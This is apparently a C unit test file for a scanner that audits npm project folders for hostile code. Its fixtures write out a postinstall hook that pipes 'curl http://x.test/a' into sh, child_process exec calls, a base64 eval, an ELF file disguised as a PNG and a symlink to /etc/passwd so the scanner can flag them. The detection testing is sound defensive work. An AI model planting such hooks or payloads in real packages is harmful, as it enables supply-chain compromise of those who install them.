/* core/preflight: the labelled evasions, honest code, hostile input, and a whole audit. */
#include "config.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>

#include <cmocka.h>

#include "core/base/buf.h"
#include "core/base/file.h"
#include "core/policy/policy.h"
#include "core/preflight/preflight.h"
#include "core/preflight/result.h"
#include "core/preflight/rules.h"
#include "core/preflight/scan.h"

/* --- one file, in this process ---------------------------------------------------------------- */

struct seen {
	bool capability[IG_CAP_N]; /* at a sink, not only an import */
	enum ig_severity worst;
	unsigned n, gaps;
	struct ig_buf text;
};

static bool is_import(const struct ig_rule *r)
{
	return strstr(r->id, "import") != NULL;
}

static void found(const struct ig_finding *f, void *user)
{
	struct seen *s = user;

	s->n++;
	s->gaps += f->rule->capability == IG_CAP_GAP;
	if (!is_import(f->rule))
		s->capability[f->rule->capability] = true;
	if (f->severity > s->worst)
		s->worst = f->severity;
	ig_buf_printf(&s->text, "%u:%u %s %s %s [%s]\n", f->line, f->column,
	    ig_severity_name(f->severity), f->rule->id, f->message, f->value ? f->value : "-");
}

static void scan(struct seen *s, const char *name, const char *src, size_t n)
{
	struct ig_scan in = {.path = name, .src = src, .n = n, .found = found, .user = s};

	*s = (struct seen){.text = IG_BUF_INIT(4 << 20)};
	in.kind = ig_kind_of(name, (const unsigned char *)src, n < IG_KIND_HEAD ? n : IG_KIND_HEAD);
	ig_scan_file(&in);
}

static char *data_path(const char *sub, const char *name)
{
	const char *top = getenv("top_srcdir");

	return ig_asprintf("%s/tests/data/%s/%s", top ? top : "..", sub, name);
}

static void read_data(const char *sub, const char *name, struct ig_buf *b)
{
	ig_auto_free char *path = data_path(sub, name);
	ig_auto_err e = NULL;

	if (ig_read_path(path, 16 << 20, b, &e) < 0)
		fail_msg("%s", ig_err_msg(e));
}

static bool has_capability(const struct seen *s, const char *word)
{
	for (size_t i = 0; i < IG_CAP_N; i++)
		if (strcmp(ig_capability_name((enum ig_capability)i), word) == 0)
			return s->capability[i];
	fail_msg("no capability '%s'", word);
	return false;
}

/* cases.tsv: file, capability, and the least severity when it matters. */
static void every_evasion_is_seen_at_its_sink(void **state)
{
	ig_auto_buf list = IG_BUF_INIT(1 << 20);
	char *save = NULL;
	unsigned cases = 0, missed = 0;

	(void)state;
	read_data("preflight/evasion", "cases.tsv", &list);
	for (char *line = strtok_r(list.data, "\n", &save); line; line = strtok_r(NULL, "\n", &save)) {
		char *tab, *name = strtok_r(line, "\t", &tab), *cap, *least;
		ig_auto_buf src = IG_BUF_INIT(1 << 20);
		enum ig_severity want = IG_SEV_INFO;
		struct seen s;

		if (!name || name[0] == '#')
			continue;
		cap = strtok_r(NULL, "\t", &tab);
		least = strtok_r(NULL, "\t", &tab);
		assert_non_null(cap);
		if (least)
			assert_int_equal(ig_severity_find(least, &want), 0);
		read_data("preflight/evasion", name, &src);
		scan(&s, name, ig_buf_str(&src), src.len);
		cases++;
		if (!has_capability(&s, cap) || s.worst < want) {
			missed++;
			print_message("# missed %s (%s):\n%s", name, cap, ig_buf_str(&s.text));
		}
		ig_buf_done(&s.text);
	}
	assert_true(cases >= 70);
	assert_int_equal(missed, 0);
}

static void honest_code_has_nothing_high(void **state)
{
	ig_auto_free char *path = data_path("preflight/honest", "");
	DIR *d = opendir(path);
	struct dirent *e;
	unsigned files = 0, wrong = 0;

	(void)state;
	assert_non_null(d);
	while ((e = readdir(d))) {
		ig_auto_buf src = IG_BUF_INIT(1 << 20);
		struct seen s;

		if (e->d_name[0] == '.')
			continue;
		read_data("preflight/honest", e->d_name, &src);
		scan(&s, e->d_name, ig_buf_str(&src), src.len);
		files++;
		if (s.worst >= IG_SEV_HIGH) {
			wrong++;
			print_message("# %s:\n%s", e->d_name, ig_buf_str(&s.text));
		}
		ig_buf_done(&s.text);
	}
	closedir(d);
	assert_true(files > 0);
	assert_int_equal(wrong, 0);
}

/* --- hostile input ----------------------------------------------------------------------------- */

static void repeat(struct ig_buf *b, const char *s, size_t n)
{
	for (size_t i = 0; i < n; i++)
		assert_int_equal(ig_buf_adds(b, s), 0);
}

static void hostile_source_ends_in_a_gap_or_nothing(void **state)
{
	static const struct {
		const char *before, *unit, *after;
		size_t n;
		bool gap;
	} cases[] = {
	    {"", "{", "", 100000, true}, {"", "[", "", 100000, true}, {"", "(", "", 100000, true},
	    {"", "[", "]", 100000, true}, {"x=", "1,", "1", 6000, false},
	    {"x=[", "1,", "1]", 6000, false}, {"x=", "!", "1", 6000, false},
	    {"x=", "a=>", "1", 6000, false}, {"x=1", "+1", "", 6000, false},
	    {"x='a'", "+'b'", "", 6000, false}, {"x=a", "?b:c", "", 6000, false},
	    {"a", ".b", "", 6000, false}, {"a", "()", "", 6000, false},
	    {"require('child_process')", ".x", ".exec('id')", 6000, false},
	    {"x=", "`${", "1", 6000, true}, {"", "function f(){", "", 6000, true},
	    {"x=", "{a:", "1", 6000, true}, {"var ", "[", "", 6000, true},
	    {"let a=require;", "{let a=a;", "", 5000, true}, {"x=", "new ", "X", 6000, false},
	    {"", "var a0=a1;var a1=a0;", "a0()", 10000, false},
	    {"", "<a>", "", 6000, true}, {"/", "[", "", 6000, true},
	};

	(void)state;
	for (size_t i = 0; i < IG_COUNT(cases); i++) {
		ig_auto_buf b = IG_BUF_INIT(64 << 20);
		struct seen s;

		ig_buf_adds(&b, cases[i].before);
		repeat(&b, cases[i].unit, cases[i].n);
		ig_buf_adds(&b, cases[i].after);
		scan(&s, "x.js", b.data, b.len);
		if (cases[i].gap && !s.gaps)
			fail_msg("case %zu (%s): no gap told", i, cases[i].unit);
		ig_buf_done(&s.text);
	}
}

static void odd_bytes_are_survived(void **state)
{
	static const char *const names[] = {"x.js", "x.ts", "x.tsx", "x.sh", "package.json",
	    "package-lock.json", "yarn.lock", "pnpm-lock.yaml", "x.md"};
	char *src = ig_malloc(1 << 20);
	static const int fills[] = {0, 0xff, 0x80, '\\', '"', '\'', '`', '/', '$', ',', ':'};

	(void)state;
	for (size_t f = 0; f < IG_COUNT(fills); f++) {
		memset(src, fills[f], 1 << 20);
		for (size_t i = 0; i < IG_COUNT(names); i++) {
			struct seen s;

			/* the parser's own recovery is quadratic in these */
			scan(&s, names[i], src, i < 3 && f < 2 ? 1 << 20 : 1 << 11);
			ig_buf_done(&s.text);
		}
	}
	free(src);
}

/* --- results ------------------------------------------------------------------------------------ */

static void packages_are_named_by_their_folder(void **state)
{
	static const struct {
		const char *path, *package;
	} cases[] = {
	    {"index.js", ""}, {"lib/a.js", ""}, {"node_modules/a/i.js", "a"},
	    {"node_modules/@s/a/i.js", "@s/a"}, {"node_modules/a/node_modules/b/i.js", "b"},
	    {"x/node_modules/a/i.js", "a"}, {"my_node_modules/a/i.js", ""},
	    {"node_modules/.bin/x", ""}, {"node_modules/x", ""}, {"node_modules/a/node_modules/x", ""},
	};

	(void)state;
	for (size_t i = 0; i < IG_COUNT(cases); i++) {
		ig_auto_free char *p = ig_package_of(cases[i].path);

		assert_string_equal(p, cases[i].package);
	}
}

static void every_rule_is_told_whole(void **state)
{
	(void)state;
	assert_int_equal(ig_rules_n, IG_R_N);
	for (size_t i = 0; i < ig_rules_n; i++) {
		assert_true(strlen(ig_rules[i].title) > 5 && strlen(ig_rules[i].why) > 10);
		assert_ptr_equal(ig_rule_find(ig_rules[i].id), &ig_rules[i]);
	}
	assert_null(ig_rule_find("no-such-rule"));
}

/* --- a whole audit -------------------------------------------------------------------------------- */

struct audit {
	struct ig_audit_result *r;
	ig_err *err;
	bool done;
	unsigned progress;
	struct ig_audit_progress last;
};

static void on_progress(const struct ig_audit_progress *p, void *user)
{
	struct audit *a = user;

	a->progress++;
	a->last = *p;
}

static void on_done(struct ig_audit_result *r, ig_err *err, void *user)
{
	struct audit *a = user;

	assert_false(a->done);
	a->r = r;
	a->err = err;
	a->done = true;
}

static const struct ig_audit_events events = {on_progress, on_done};

static void audit(struct audit *a, const char *path)
{
	ig_loop *loop = ig_loop_new(NULL);
	struct ig_service s = {.path = (char *)(uintptr_t)path};
	uint64_t start = ig_now_ms();
	ig_audit *job;

	*a = (struct audit){0};
	job = ig_audit_start(loop, &s, &events, a, NULL);
	assert_non_null(job);
	while (!a->done && ig_now_ms() - start < 60000)
		ig_loop_once(loop, 100);
	assert_true(a->done);
	ig_audit_free(job);
	ig_loop_free(loop);
}

static void audit_done(struct audit *a)
{
	ig_audit_result_free(a->r);
	ig_err_free(a->err);
}

/* All that a result tells but for the time it took. */
static void print_result(const struct ig_audit_result *r, struct ig_buf *b)
{
	ig_buf_printf(b, "%s %zu %llu %u\n", r->manifest.digest, r->manifest.files,
	    (unsigned long long)r->manifest.bytes, r->parsed);
	for (size_t i = 0; i < r->n; i++) {
		const struct ig_finding *f = &r->finding[i];

		ig_buf_printf(b, "%s:%u:%u-%u:%u %d %d %s %s [%s] {%s} %s\n", f->file, f->line,
		    f->column, f->end_line, f->end_column, f->severity, f->confidence, f->rule->id,
		    f->message, f->value ? f->value : "-", f->excerpt, f->package);
	}
	for (size_t i = 0; i < r->skipped_n; i++)
		ig_buf_printf(b, "%s: %s\n", r->skipped[i].path, r->skipped[i].reason);
}

static void an_audit_is_the_same_each_time(void **state)
{
	ig_auto_free char *path = data_path("preflight/evasion", "");
	ig_auto_buf first = IG_BUF_INIT(8 << 20);

	(void)state;
	for (int i = 0; i < 3; i++) {
		ig_auto_buf b = IG_BUF_INIT(8 << 20);
		struct audit a;

		audit(&a, path);
		assert_null(a.err);
		assert_true(a.r->n > 100 && a.r->parsed >= 70 && a.progress >= 2);
		assert_int_equal(a.last.files, a.r->manifest.files);
		assert_int_equal(a.last.bytes_total, a.r->manifest.bytes);
		print_result(a.r, i ? &b : &first);
		if (i)
			assert_string_equal(ig_buf_str(&b), ig_buf_str(&first));
		audit_done(&a);
	}
}

static void put(const char *dir, const char *name, const char *text)
{
	ig_auto_free char *path = ig_asprintf("%s/%s", dir, name);
	FILE *f = fopen(path, "we");

	assert_non_null(f);
	fputs(text, f);
	fclose(f);
}

static const struct ig_finding *find(const struct ig_audit_result *r, const char *file, const char *rule)
{
	for (size_t i = 0; i < r->n; i++)
		if (!strcmp(r->finding[i].file, file) && !strcmp(r->finding[i].rule->id, rule))
			return &r->finding[i];
	return NULL;
}

static void a_folder_is_audited_whole(void **state)
{
	char dir[] = "/tmp/ignite-audit.XXXXXX";
	ig_auto_free char *sub = NULL;
	ig_auto_buf src = IG_BUF_INIT(1 << 20);
	struct ig_service s = {.path = dir};
	const struct ig_finding *f;
	ig_auto_err e = NULL;
	struct audit a;

	(void)state;
	assert_non_null(mkdtemp(dir));
	sub = ig_asprintf("%s/node_modules/left", dir);
	assert_int_equal(ig_mkdir_p(sub, NULL), 0);
	put(dir, "index.js", "// first\nconst cp = require('child_process');\n\tcp.exec('id');\n");
	put(dir, "package.json",
	    "{\"name\":\"x\",\n \"scripts\": {\"postinstall\": \"curl http://x.test/a | sh\"}}\n");
	put(sub, "i.js", "eval(atob('YWxlcnQoMSk='))\n");
	put(dir, "logo.png", "\x7f" "ELF\x02\x01\x01");
	put(dir, "bad.js", "var = = ;\n");
	assert_int_equal(symlink("/etc/passwd", (sub = (free(sub), ig_asprintf("%s/link", dir)))), 0);
	audit(&a, dir);
	assert_null(a.err);
	f = find(a.r, "index.js", "exec-call");
	assert_non_null(f);
	assert_int_equal(f->line, 3);
	assert_int_equal(f->column, 5); /* at exec */
	assert_string_equal(f->value, "id");
	assert_string_equal(f->package, "");
	f = find(a.r, "node_modules/left/i.js", "eval-decoded");
	assert_non_null(f);
	assert_string_equal(f->package, "left");
	assert_int_equal(f->severity, IG_SEV_HIGH);
	f = find(a.r, "package.json", "install-hook-dangerous");
	assert_non_null(f);
	assert_int_equal(f->severity, IG_SEV_CRITICAL);
	assert_int_equal(f->line, 2);
	assert_non_null(find(a.r, "logo.png", "native-disguised"));
	assert_non_null(find(a.r, "bad.js", "gap-parse"));
	assert_non_null(find(a.r, "link", "gap-skipped"));
	assert_int_equal(a.r->skipped_n, 1);
	assert_int_equal(a.r->manifest.files, 5);

	assert_int_equal(ig_audit_source(&s, a.r, "index.js", &src, &e), 0);
	assert_int_equal(strncmp(ig_buf_str(&src), "// first", 8), 0);
	assert_int_equal(ig_audit_source(&s, a.r, "link", &src, &e), -1);
	ig_err_free(e);
	e = NULL;
	put(dir, "index.js", "// second\n");
	assert_int_equal(ig_audit_source(&s, a.r, "index.js", &src, &e), -1);
	assert_int_equal(ig_err_code(e), IG_E_CHANGED);
	audit_done(&a);
	assert_int_equal(ig_rmtree(dir, NULL), 0);
}

/* --- the labelled corpus: one audit of all its folders --------------------------------------------- */

static bool below(const char *file, const char *path)
{
	size_t n = strlen(path);

	if (n && path[n - 1] == '/')
		return strncmp(file, path, n) == 0;
	return strcmp(file, path) == 0;
}

/* "12", "a.js:3|b.js:4", "0": does a finding stand at one of them? */
static bool at_place(const struct ig_finding *f, const char *path, const char *places)
{
	ig_auto_free char *copy = ig_strdup(places);
	char *save = NULL;

	for (char *p = strtok_r(copy, "|", &save); p; p = strtok_r(NULL, "|", &save)) {
		char *colon = strrchr(p, ':');
		unsigned line = (unsigned)strtoul(colon ? colon + 1 : p, NULL, 10);

		if (colon) {
			*colon = '\0';
			if (strncmp(f->file, path, strlen(path)) != 0 ||
			    strcmp(f->file + strlen(path), p) != 0)
				continue;
		}
		if (line == 0 || line == f->line)
			return true;
	}
	return false;
}

static void the_corpus_is_seen(void **state)
{
	ig_auto_free char *path = data_path("evasion", "");
	ig_auto_buf list = IG_BUF_INIT(1 << 20);
	unsigned cases = 0, flagged = 0, exact = 0;
	char *save = NULL;
	struct audit a;

	(void)state;
	audit(&a, path);
	assert_null(a.err);
	read_data("evasion", "cases.tsv", &list);
	for (char *line = strtok_r(list.data, "\n", &save); line; line = strtok_r(NULL, "\n", &save)) {
		char *tab, *name = strtok_r(line, "\t", &tab), *cap = strtok_r(NULL, "\t", &tab);
		char *places = strtok_r(NULL, "\t", &tab);
		bool seen = false, placed = false;

		if (!name || name[0] == '#' || !cap || !places)
			continue;
		cap[strcspn(cap, ":")] = '\0'; /* the least severity is told apart */
		for (size_t i = 0; i < a.r->n; i++) {
			const struct ig_finding *f = &a.r->finding[i];

			if (!below(f->file, name) ||
			    strcmp(ig_capability_name(f->rule->capability), cap) != 0)
				continue;
			seen = true;
			placed |= !is_import(f->rule) && at_place(f, name, places);
		}
		cases++;
		flagged += seen;
		exact += placed;
		if (!seen)
			print_message("# not flagged: %s (%s)\n", name, cap);
	}
	print_message("# %u cases, %u flagged, %u at the sink\n", cases, flagged, exact);
	/* What is known to be missed needs more than one file, or a browser: see above. */
	assert_true(cases > 500);
	assert_true(flagged * 1000 >= cases * 940);
	assert_true(exact * 1000 >= cases * 900);
	audit_done(&a);
}

static void honest_folders_have_nothing_high(void **state)
{
	ig_auto_free char *path = data_path("honest", "");
	unsigned wrong = 0;
	struct audit a;

	(void)state;
	audit(&a, path);
	assert_null(a.err);
	assert_true(a.r->parsed > 100);
	for (size_t i = 0; i < a.r->n && a.r->finding[i].severity >= IG_SEV_HIGH; i++, wrong++)
		print_message("# %s:%u %s %s\n", a.r->finding[i].file, a.r->finding[i].line,
		    a.r->finding[i].rule->id, a.r->finding[i].message);
	assert_int_equal(wrong, 0);
	audit_done(&a);
}

static void an_audit_can_be_stopped(void **state)
{
	ig_auto_free char *path = data_path("preflight/evasion", "");
	struct ig_service s = {.path = path};
	ig_loop *loop = ig_loop_new(NULL);
	struct audit a = {0};
	ig_audit *job = ig_audit_start(loop, &s, &events, &a, NULL);

	(void)state;
	assert_non_null(job);
	ig_loop_once(loop, 1);
	ig_audit_free(job);
	for (int i = 0; i < 5; i++)
		ig_loop_once(loop, 5);
	assert_false(a.done);
	ig_audit_free(NULL);
	ig_loop_free(loop);
}

static void a_folder_that_is_none(void **state)
{
	struct ig_service s = {.path = (char *)(uintptr_t) "/nonexistent/x"};
	ig_loop *loop = ig_loop_new(NULL);
	ig_auto_err e = NULL;

	(void)state;
	assert_null(ig_audit_start(loop, &s, &events, NULL, &e));
	assert_int_equal(ig_err_code(e), IG_E_NOT_FOUND);
	ig_loop_free(loop);
}

/* What a rule says a policy would need is a key that policies have. */
static void rules_name_keys_of_policies(void **state)
{
	(void)state;
	for (size_t i = 0; i < ig_rules_n; i++) {
		const char *policy = ig_rules[i].policy;
		ig_auto_free char *key = policy ? ig_strndup(policy, strcspn(policy, ":")) : NULL;

		if (key && ig_pkey_find(key) == IG_P_N)
			fail_msg("%s: '%s' is no policy key", ig_rules[i].id, key);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(rules_name_keys_of_policies),
	    cmocka_unit_test(every_evasion_is_seen_at_its_sink),
	    cmocka_unit_test(honest_code_has_nothing_high),
	    cmocka_unit_test(hostile_source_ends_in_a_gap_or_nothing),
	    cmocka_unit_test(odd_bytes_are_survived),
	    cmocka_unit_test(packages_are_named_by_their_folder),
	    cmocka_unit_test(every_rule_is_told_whole),
	    cmocka_unit_test(an_audit_is_the_same_each_time),
	    cmocka_unit_test(a_folder_is_audited_whole),
	    cmocka_unit_test(the_corpus_is_seen),
	    cmocka_unit_test(honest_folders_have_nothing_high),
	    cmocka_unit_test(an_audit_can_be_stopped),
	    cmocka_unit_test(a_folder_that_is_none),
	};

	return cmocka_run_group_tests_name("preflight", tests, NULL, NULL);
}
